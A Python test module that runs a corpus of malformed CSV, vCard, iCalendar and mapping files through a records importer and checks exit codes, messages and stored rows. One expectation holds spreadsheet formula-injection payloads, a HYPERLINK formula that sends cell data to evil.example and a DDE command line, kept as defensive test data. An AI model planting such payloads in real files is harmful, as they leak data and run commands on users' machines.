"""The second round of the bad-input corpus: each file with the outcome it must have.

Every file below is run through the importer its name starts with (a mapping file with a
good list), on a copy of an archive holding the demo case. The outcome is the exit status
and a phrase of what the person reads: the one-line refusal, or the report's line. Some
also check what was stored (text read in the right encoding, nothing planted or dropped).
A new file in ``corpus/`` must be added here, or to ``tests/safety/test_bad_input.py``'s
first round (``FIRST_ROUND``), with what it must do.

The files whose stored text is checked, and those that push a column's type to its edge
(years, huge text, many rows), are imported into a server archive too, a copy of a demo
database: PostgreSQL refuses what SQLite stores without a word (a NUL in text, a number or
a year out of its type's range). A refused file is refused before anything reaches the
database, and each server import is backed up first (a second or so): the rest run on
SQLite only.
"""

import contextlib
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.helpers.sql import sql
from tests.safety.support import CORPUS, make_demo, make_demo_file

from powmia_desktop.cli import main
from powmia_desktop.db.location import resolve_location

#: The hand-written files of the first round (their outcomes are in test_bad_input.py).
FIRST_ROUND = {
    "archive-not-a-zip.zip", "cases-bad-values.csv", "cases-control-characters.csv",
    "cases-empty.csv", "cases-header-only.csv", "cases-markup-rtl-hangul.csv",
    "cases-unbalanced-quotes.csv", "cases-wrong-columns.csv", "contacts-malformed.vcf",
    "contacts-markup.vcf", "contacts-not-a-vcard.vcf", "events-malformed.csv",
    "mapping-malformed.json", "meetings-malformed.ics", "meetings-no-events.ics",
    "meetings-not-a-calendar.ics", "not-an-archive.sqlite",
}  # fmt: skip

#: file -> (exit status, a phrase of stderr on 1 or of the report on 0)
OUTCOMES: dict[str, tuple[int, str]] = {
    "cases-cp1251.csv": (0, "cases-cp1251.csv is not UTF-8 and was read as Windows-1251 (Cyrilli"),
    "cases-cp949.csv": (0, "cases-cp949.csv is not UTF-8 and was read as Korean (EUC-KR), a gues"),
    "cases-dates-birth-after-loss.csv": (0, "2 rows, 2 new"),
    "cases-dates-excel-serials.csv": (0, "5 rows, 5 new"),
    "cases-dates-extreme-years.csv": (0, "5 rows, 5 new"),
    "cases-dates-impossible.csv": (0, "4 rows, 4 new"),
    "cases-dates-unicode-digits.csv": (0, "3 rows, 3 new"),
    "cases-dates-with-times-and-zones.csv": (0, "4 rows, 4 new"),
    "cases-dates-words.csv": (0, "5 rows, 5 new"),
    "cases-duplicate-header-case.csv": (
        1,
        "cases-duplicate-header-case.csv has the column 'Surname' 2 times",
    ),
    "cases-duplicate-header.csv": (
        1,
        "cases-duplicate-header.csv has the column 'Last Name' 2 times",
    ),
    "cases-formula-cells.csv": (0, "2 rows, 2 new"),
    "cases-header-all-blank.csv": (
        1,
        "No column of cases-header-all-blank.csv holds the surname; map one of",
    ),
    "cases-header-formula.csv": (0, "1 rows, 1 new"),
    "cases-many-columns.csv": (
        1,
        "No column of cases-many-columns.csv holds the surname; map one of",
    ),
    "cases-mixed-utf8-latin1.csv": (0, "Line 3 of cases-mixed-utf8-latin1.csv is not UTF-8 and w"),
    "cases-overlong-utf8.csv": (0, "cases-overlong-utf8.csv is not UTF-8 and was read as Windows"),
    "cases-service-numbers-control.csv": (0, "Rejected: Row 4: '--' does not look li"),
    "cases-service-numbers-duplicate.csv": (0, "Held for review: Row 3: Park,"),
    "cases-service-numbers-odd.csv": (0, "Rejected: Row 2: 'RA 12 345 678' does not "),
    "cases-stray-boms.csv": (0, "2 rows, 2 new"),
    "cases-two-columns-one-field.csv": (
        1,
        "The columns 'Last Name' and 'Surname' would all go to 'surname',",
    ),
    "cases-utf16-no-bom.csv": (
        1,
        "cases-utf16-no-bom.csv is not a text file (it contains NUL bytes)",
    ),
    "cases-utf8-bom-then-latin1.csv": (0, "cases-utf8-bom-then-latin1.csv is not UTF-8 and was r"),
    "contacts-bday-odd.vcf": (0, "3 cards, 3 contacts"),
    "contacts-charset-latin1.vcf": (0, "1 cards, 1 contacts"),
    "contacts-charset-lying.vcf": (0, "contacts-charset-lying.vcf is not UTF-8 and was rea"),
    "contacts-charset-shift-jis.vcf": (0, "1 cards, 1 contacts"),
    "contacts-charset-unknown.vcf": (0, "contacts-charset-unknown.vcf is not UTF-8 and was"),
    "contacts-duplicate-header.csv": (
        1,
        "contacts-duplicate-header.csv has the column 'Name' 2 times (columns",
    ),
    "contacts-formula-fields.vcf": (0, "1 cards, 1 contacts, 1 phones"),
    "contacts-huge-folded-note.vcf": (0, "1 cards, 1 contacts"),
    "contacts-mixed-encodings.vcf": (0, "Line 3 of contacts-mixed-encodings.vcf is not UTF"),
    "contacts-nested-begin.vcf": (0, "1 cards, 1 contacts"),
    "contacts-photo-data-uri-odd.vcf": (0, "1 cards, 1 contacts, 1 photo"),
    "contacts-photo-not-base64.vcf": (0, "Card 1 (Bad Photo): its photo is damaged (not va"),
    "contacts-qp-shift-jis.vcf": (0, "1 cards, 1 contacts"),
    "contacts-stray-boms.vcf": (0, "2 cards, 2 contacts"),
    "contacts-tel-odd.vcf": (0, "1 cards, 1 contacts, 2 phones, 1 emails"),
    "events-dates-odd.csv": (0, "5 rows, 5 events"),
    "events-duplicate-header.csv": (
        1,
        "events-duplicate-header.csv has the column 'Title' 2 times (columns",
    ),
    "events-end-before-start.csv": (0, "2 rows, 2 events"),
    "events-formula-cells.csv": (0, "1 rows, 1 events"),
    "events-source-separators.csv": (0, "3 rows, 3 events, 3 citations"),
    "mapping-a-list.json": (1, "mapping-a-list.json must be a JSON object of column -> field"),
    "mapping-deeply-nested.json": (
        1,
        "The mapping file mapping-deeply-nested.json is nested too deeply",
    ),
    "mapping-duplicate-keys.json": (
        1,
        "The mapping file mapping-duplicate-keys.json names 'Last Name' twice;",
    ),
    "mapping-empty-column-name.json": (
        1,
        "The mapping names a column '' that the file does not have (its",
    ),
    "mapping-huge-numbers.json": (
        1,
        "mapping-huge-numbers.json is a mapping of version inf; this version",
    ),
    "mapping-nan.json": (
        1,
        "'options' in mapping-nan.json must hold text (a list's title, a date)",
    ),
    "mapping-newer-version.json": (
        1,
        "mapping-newer-version.json is a mapping of version 99; this version",
    ),
    "mapping-options-bad-date.json": (
        1,
        "'the thirty-first of Smarch' is not a date I can read: 'the",
    ),
    "mapping-options-offices-path.json": (0, "Imported good.csv: 1 rows, 1 new"),
    "mapping-options-wrong-types.json": (
        1,
        "'options' in mapping-options-wrong-types.json must hold text (a",
    ),
    "mapping-other-format.json": (1, "mapping-other-format.json is not a powmia-mapping file"),
    "mapping-two-to-one.json": (
        1,
        "The columns 'Last Name' and 'First Name' would all go to 'surname',",
    ),
    "mapping-unknown-field.json": (
        1,
        "The mapping sends 'Last Name' to 'shoe_size', which is not a field;",
    ),
    "mapping-wrong-types.json": (
        1,
        "'columns' in mapping-wrong-types.json must map column names to field",
    ),
    "meetings-dates-far-future.ics": (0, "Event 1 (Briefing): its repeat rule gives no da"),
    "meetings-dates-impossible.ics": (0, "Rejected: Event 1: its DTSTART '19510230T100000"),
    "meetings-dates-year-zero.ics": (0, "Rejected: Event 1: its DTSTART '00000101T000000Z"),
    "meetings-end-before-start.ics": (0, "Event 1 (Briefing): it ends before it starts; i"),
    "meetings-exdate-garbage.ics": (0, "Event 1 (Briefing): an EXDATE could not be read a"),
    "meetings-huge-description.ics": (0, "1 events, 1 meetings"),
    "meetings-many-events.ics": (0, "Event 1 (E0): its repeat rule gives no date (withi"),
    "meetings-negative-duration.ics": (0, "Event 1 (Briefing): it ends before it starts; "),
    "meetings-rrule-all-excluded.ics": (0, "1 events, 25 meetings"),
    "meetings-rrule-bysetpos-sparse.ics": (0, "Event 1 (Briefing): its repeat rule gives "),
    "meetings-rrule-garbage.ics": (0, "Event 1 (Briefing): its repeat rule could not be r"),
    "meetings-rrule-huge-count.ics": (
        0,
        "BYSETPOS is only followed in weekly, monthly and yearly rules",
    ),
    "meetings-rrule-interval-zero.ics": (0, "Event 1 (Briefing): its repeat rule could no"),
    "meetings-rrule-negative.ics": (0, "Event 1 (Briefing): its repeat rule could not be "),
    "meetings-rrule-never.ics": (0, "Event 1 (Briefing): its repeat rule gives no date (w"),
    "meetings-rrule-secondly-forever.ics": (0, "Event 1 (Briefing): repeats beyond 52 ti"),
    "meetings-rrule-until-before-start.ics": (0, "Event 1 (Briefing): its repeat rule giv"),
    "meetings-tzid-path.ics": (0, "1 events, 1 meetings"),
    "meetings-unknown-timezone.ics": (0, "1 events, 1 meetings"),
}

#: file -> (query, the rows it must give) on the archive after the import.
STORED: dict[str, tuple[str, list[tuple[object, ...]]]] = {
    "cases-cp1251.csv": (
        "SELECT surname, given_names FROM serviceman WHERE id > 1 ORDER BY id",
        [("Иванов", "Пётр"), ("Смирнов", "Иван")],
    ),
    "cases-cp949.csv": (
        "SELECT surname, given_names FROM serviceman WHERE id > 1 ORDER BY id",
        [("김", "철수"), ("이", "영희"), ("박", "민수")],
    ),
    "cases-mixed-utf8-latin1.csv": (
        "SELECT surname, given_names FROM serviceman WHERE id > 1 ORDER BY id",
        [("Müller", "Jürgen"), ("Bérubé", "Noël")],
    ),
    "cases-utf8-bom-then-latin1.csv": (
        "SELECT surname, given_names FROM serviceman WHERE id > 1 ORDER BY id",
        [("Kim", "Lee"), ("Côté", "André")],
    ),
    "cases-stray-boms.csv": (
        "SELECT surname, given_names FROM serviceman WHERE id > 1 ORDER BY id",
        [("Kim", "Lee"), ("Park", "Min")],
    ),
    "cases-formula-cells.csv": (
        "SELECT surname, given_names, unit FROM serviceman WHERE id > 1 ORDER BY id",
        [
            ('=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+cmd|' /C calc'!A0"),
            ("=1+1", "-2+3", "=protected"),
        ],
    ),
    "contacts-charset-shift-jis.vcf": (
        "SELECT display_name, surname FROM contact ORDER BY id DESC LIMIT 1",
        [("山田 太郎", "山田")],
    ),
    "contacts-charset-latin1.vcf": (
        "SELECT display_name, surname FROM contact ORDER BY id DESC LIMIT 1",
        [("Zoë Bérubé", "Bérubé")],
    ),
    "contacts-qp-shift-jis.vcf": (
        "SELECT display_name FROM contact ORDER BY id DESC LIMIT 1",
        [("山田",)],
    ),
    "contacts-mixed-encodings.vcf": (
        "SELECT display_name FROM contact ORDER BY id DESC LIMIT 2",
        [("Jürgen Müller",), ("Zoë Bérubé",)],
    ),
    "contacts-stray-boms.vcf": (
        "SELECT display_name FROM contact ORDER BY id DESC LIMIT 2",
        [("Ola Nordmann",), ("Anna Berg",)],
    ),
    "meetings-end-before-start.ics": (
        "SELECT ends_at FROM meeting ORDER BY id DESC LIMIT 1",
        [(None,)],
    ),
}


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_demo_file(tmp_path_factory.mktemp("demo") / "family.sqlite")


@pytest.fixture(scope="module")
def server_demo(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The name of a demo database on the test server, copied for each file."""
    pool = request.getfixturevalue("pg_pool")
    url = pool.take(tmp_path_factory.mktemp("server-demo") / "shared")
    make_demo(resolve_location(url))
    yield url.rsplit("/", 1)[1]
    pool.give_back(url)


def _copy_of_the_demo(on: str, tmp_path: Path, request: pytest.FixtureRequest) -> str:
    if on == "sqlite":
        db = tmp_path / "family.sqlite"
        shutil.copyfile(request.getfixturevalue("demo"), db)
        return str(db)
    server = request.getfixturevalue("pg_pool").server
    name = f"corpus_{tmp_path.name}"[:60]
    request.addfinalizer(lambda: server.drop_database(name))
    return str(server.create_database(name, template=request.getfixturevalue("server_demo")))


#: Imported into a server archive too (see the module text), with the files of ``STORED``.
AT_THE_EDGE = {
    "cases-dates-excel-serials.csv", "cases-dates-extreme-years.csv",
    "cases-overlong-utf8.csv", "cases-service-numbers-control.csv",
    "contacts-huge-folded-note.vcf", "meetings-dates-far-future.ics",
    "meetings-dates-year-zero.ics", "meetings-huge-description.ics", "meetings-many-events.ics",
}  # fmt: skip
CASES = [("sqlite", name) for name in sorted(OUTCOMES)]
CASES += [("postgresql", name) for name in sorted(AT_THE_EDGE | set(STORED))]


def test_every_corpus_file_has_an_outcome() -> None:
    names = {p.name for p in CORPUS.iterdir() if p.suffix != ".md"}
    assert names - FIRST_ROUND == set(OUTCOMES), "give each new corpus file its outcome"
    assert set(STORED) | AT_THE_EDGE <= set(OUTCOMES)


@pytest.mark.parametrize(("on", "name"), CASES)
def test_the_corpus_file_has_its_outcome(
    on: str, name: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    db = _copy_of_the_demo(on, tmp_path, request)
    given = tmp_path / name
    shutil.copyfile(CORPUS / name, given)
    kind = name.split("-")[0]
    if kind == "mapping":
        good = tmp_path / "good.csv"
        good.write_text("Last Name,First Name\nKim,Lee\n")
        args = ["--db", db, "import", "cases", str(good), "--mapping", str(given)]
    else:
        args = ["--db", db, "import", kind, str(given)]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err):
        code = main(args, out=out)
    expected_code, phrase = OUTCOMES[name]
    said = err.getvalue() if code else out.getvalue()
    assert "Traceback" not in out.getvalue() + err.getvalue()
    assert (code, phrase in said) == (expected_code, True), said
    if code:
        assert err.getvalue().startswith("powmia: ") and err.getvalue().count("\n") == 1
        assert "unexpected error" not in err.getvalue()
    assert given.read_bytes() == (CORPUS / name).read_bytes()
    if name in STORED:
        query, rows = STORED[name]
        assert sql(db, query) == rows
